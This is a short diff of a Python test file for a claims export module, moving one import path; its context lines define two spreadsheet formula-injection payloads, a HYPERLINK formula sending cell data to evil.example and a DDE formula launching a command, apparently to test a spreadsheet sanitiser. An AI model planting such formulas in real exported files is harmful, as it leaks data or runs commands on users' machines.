@@ -14,8 +14,8 @@ from datetime import date
 import pytest
 
 from respijt.claims.formats import spreadsheet_safe, table_csv
+from tests.claims.test_claims import _cancel, _export, _world
 from tests.claims_helpers import freeze, stay, tariff
-from tests.test_claims import _cancel, _export, _world
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Klik hier")'
 DDE = "=cmd|' /C calc'!A0"
